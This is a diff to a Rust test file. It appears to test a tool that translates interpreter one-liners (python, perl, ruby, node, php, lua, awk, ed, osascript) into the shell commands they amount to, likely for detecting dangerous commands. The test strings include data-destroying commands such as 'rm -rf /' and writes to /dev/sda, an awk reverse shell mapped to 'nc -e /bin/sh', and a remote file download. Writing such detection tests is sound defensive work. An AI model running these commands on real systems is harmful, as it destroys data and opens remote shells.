@@ -415,7 +415,7 @@ fn awk() {
             ("{ print > \"/dev/sda\" }", "> /dev/sda"),
             (
                 "BEGIN {s = \"/inet/tcp/0/10.0.0.1/4242\"; while(1) { s |& getline c; while ((c |& getline) > 0) print $0 |& s; close(c) } }",
-                "$_; nc -e /bin/sh 10.0.0.1 4242",
+                "nc -e /bin/sh 10.0.0.1 4242",
             ),
         ],
     );
@@ -538,4 +538,57 @@ fn editors_and_apple_script() {
     assert_eq!(translated("printf '%s\\n' '!rm -rf /' | ed x\n"), "rm -rf /");
     assert_eq!(translated("osascript -e 'do shell script \"rm -rf /\" with administrator privileges'\n"), "rm -rf /");
     assert_eq!(translated("osascript -e 'display dialog \"do shell script\"'\n"), "");
+}
+
+#[test]
+fn loops_and_put_together_texts_are_followed() {
+    check(
+        "python3 -c",
+        &[
+            ("import shutil; [shutil.rmtree(p) for p in ['/etc', '/usr']]", "rm -rf /etc /usr"),
+            ("for p in ('/etc', '/usr'): __import__('shutil').rmtree(p)", "rm -rf /etc /usr"),
+            ("import pathlib; [p.unlink() for p in pathlib.Path('/etc').glob('*')]", "rm -f /etc/*"),
+            ("import subprocess; subprocess.run(['rm', '-rf'] + ['/'])", "rm -rf /"),
+            ("import os; os.system('rm -rf %s' % '/')", "rm -rf /"),
+            ("import os; os.system('%s -rf %s' % ('rm', '/'))", "rm -rf /"),
+            ("import os; os.system('rm -rf {}'.format('/'))", "rm -rf /"),
+            ("import os; os.system(' '.join(['rm', '-rf', '/']))", "rm -rf /"),
+            ("import os; os.open('/dev/sda', os.O_WRONLY | os.O_SYNC)", ">> /dev/sda"),
+            ("import os, sys; os.system(sys.argv[1])", ""),
+            ("import os; [os.unlink(os.path.join(d,f)) for d,_,fs in os.walk('/') for f in fs]", "rm -f $_/$_"),
+        ],
+    );
+    check(
+        "perl -e",
+        &[
+            ("unlink </etc/*>", "rm -f /etc/*"),
+            ("for (glob \"/etc/*\") { unlink $_ }", "rm -f /etc/*"),
+            ("foreach my $f (\"/a\", \"/b\") { unlink($f) }", "rm -f /a /b"),
+            ("system(join(\" \", \"rm\", \"-rf\", \"/\"))", "rm -rf /"),
+            ("system(sprintf(\"rm -rf %s\", \"/\"))", "rm -rf /"),
+        ],
+    );
+    check(
+        "ruby -e",
+        &[
+            ("Dir.glob('/etc/*').each { |f| File.delete(f) }", "rm -f /etc/*"),
+            ("Dir['/etc/*'].each do |f| File.unlink f end", "rm -f /etc/*"),
+            ("%w[/etc /usr].each { |d| FileUtils.rm_rf(d) }", "rm -rf /etc /usr"),
+            ("system(['rm', '-rf', '/'].join(' '))", "rm -rf /"),
+        ],
+    );
+    check("node -e", &[("['/etc', '/usr'].forEach(p => fs.rmSync(p, {recursive: true}))", "rm -rf /etc /usr")]);
+    check(
+        "php -r",
+        &[
+            ("foreach (glob('/etc/*') as $f) unlink($f);", "rm -f /etc/*"),
+            ("copy('https://x.io/a', 'b.php');", "curl -o b.php https://x.io/a"),
+            ("system(implode(' ', ['rm', '-rf', '/']));", "rm -rf /"),
+        ],
+    );
+    check("lua -e", &[("local h = os.getenv('HOME') os.execute('rm -rf ' .. h)", "rm -rf $HOME")]);
+    assert_eq!(
+        translated("php <<'E'\n<p>system(\"rm -rf /\")</p>\n<?php system(\"rm -rf /etc\"); ?>\nE\n"),
+        "rm -rf /etc"
+    );
 }
